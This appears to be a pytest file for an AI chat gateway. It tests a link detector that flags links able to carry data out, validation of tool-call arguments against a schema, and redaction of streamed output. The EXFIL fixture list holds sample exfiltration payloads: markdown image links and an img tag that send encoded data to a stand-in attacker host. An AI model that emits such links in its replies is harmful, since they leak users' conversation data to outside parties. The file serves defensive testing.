"""Links that could carry data out are found (and only those); tool-call arguments are held
to the tool's schema."""

from __future__ import annotations

import asyncio

import msgspec
import pytest

from gateway.context import RequestContext
from gateway.errors import BadGatewayError
from gateway.protocol.chat import ChatCompletionRequest
from gateway.protocol.payload import Reply
from gateway.protocol.raw import raw
from policies.audit import AuditLog
from policies.findings import replace
from policies.links import LinkDetector, replacement
from policies.tool_arguments import ToolArgumentsStage

EXFIL = [
    "![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)",
    "![](https://evil.example/log?q=" + "a" * 80 + ")",
    '<img src="https://evil.example/i?data=SGVsbG8gV29ybGQgc2VjcmV0IGtleQ==">',
    "[click](https://evil.example/collect/U2VjcmV0U3RyaW5nV2l0aE1peGVkQ2FzZUFuZERpZ2l0czEyMzQ)",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
]
BENIGN = [
    "[docs](https://docs.python.org/3/library/re.html)",
    "![logo](https://example.com/static/logo-dark.png)",
    "[commit](https://github.com/org/repo/commit/4f3c2a1b9e8d7c6b5a4f3c2a1b9e8d7c6b5a4f3c)",
    "[search](https://www.google.com/search?q=gateway)",
    "[mail me](mailto:someone@example.com)",
]


@pytest.mark.parametrize("text", EXFIL)
def test_data_carrying_links_are_found(text: str) -> None:
    assert LinkDetector().find(f"see {text} now"), text


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_links_are_left_alone(text: str) -> None:
    assert LinkDetector().find(f"see {text} now") == []


def test_an_allow_list_strips_other_hosts_and_links_keep_their_text() -> None:
    detector = LinkDetector(["example.com"])
    text = "[ok](https://docs.example.com/a) and [bad](https://other.org/a) ![i](https://other.org/i.png)"
    out = replace(text, detector.find(text), replacement)
    assert out == "[ok](https://docs.example.com/a) and bad "


def tool_request() -> ChatCompletionRequest:
    tools = [
        {
            "type": "function",
            "function": {
                "name": "get_weather",
                "parameters": {
                    "type": "object",
                    "properties": {"city": {"type": "string"}},
                    "required": ["city"],
                },
            },
        }
    ]
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "tools": tools}
    return msgspec.convert(body, ChatCompletionRequest)


def reply_with(arguments: str) -> Reply:
    call = {
        "id": "c",
        "type": "function",
        "function": {"name": "get_weather", "arguments": arguments},
    }
    choice = {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [call]}}
    return Reply({"choices": raw([choice])}, "chat")


@pytest.mark.parametrize(
    ("arguments", "valid"),
    [('{"city": "Oslo"}', True), ('{"town": 1}', False), ("{not json", False)],
)
def test_tool_arguments_are_checked_against_the_schema(arguments: str, valid: bool) -> None:
    ctx = RequestContext("r", "/v1")
    flag = ToolArgumentsStage("flag", AuditLog(None)).open(tool_request(), ctx)
    assert flag is not None
    asyncio.run(flag.reply(reply_with(arguments)))
    assert (ctx.flags is None) is valid
    block = ToolArgumentsStage("block", AuditLog(None)).open(
        tool_request(), RequestContext("r", "/v1")
    )
    assert block is not None
    if valid:
        asyncio.run(block.reply(reply_with(arguments)))
    else:
        with pytest.raises(BadGatewayError) as caught:
            asyncio.run(block.reply(reply_with(arguments)))
        assert caught.value.error_code == "tool_arguments_invalid"


def test_links_stream_through_a_small_hold_back_like_the_whole_text() -> None:
    import asyncio as aio

    from gateway.protocol.payload import Chunk
    from policies.base import StreamOutcome
    from policies.output_redaction import OutputRedactionStage

    detector = LinkDetector()
    text = "Intro. " * 30 + EXFIL[0] + " and " + BENIGN[0] + " then " + EXFIL[2] + " [no link] x"
    stage = OutputRedactionStage([detector], audit=AuditLog(None), write=replacement)

    async def run() -> tuple[str, int]:
        filt = stage.open(None, RequestContext("r", "/v1"))  # type: ignore[arg-type]
        assert filt is not None
        out, first_at = [], -1
        for i, ch in enumerate(text):
            choice = {"index": 0, "delta": {"content": ch}, "finish_reason": None}
            for c in await filt.chunk(Chunk({"choices": raw([choice])}, "chat")):
                got = c.choices()[0]["delta"].get("content")
                if got and first_at < 0:
                    first_at = i
                out.append(got or "")
        for c in await filt.finish(StreamOutcome.COMPLETED):
            out.append(c.choices()[0]["delta"]["content"])
        return "".join(out), first_at

    streamed, first_at = aio.run(run())
    assert streamed == replace(text, detector.find(text), replacement)
    assert first_at == 0  # plain text is released as it arrives
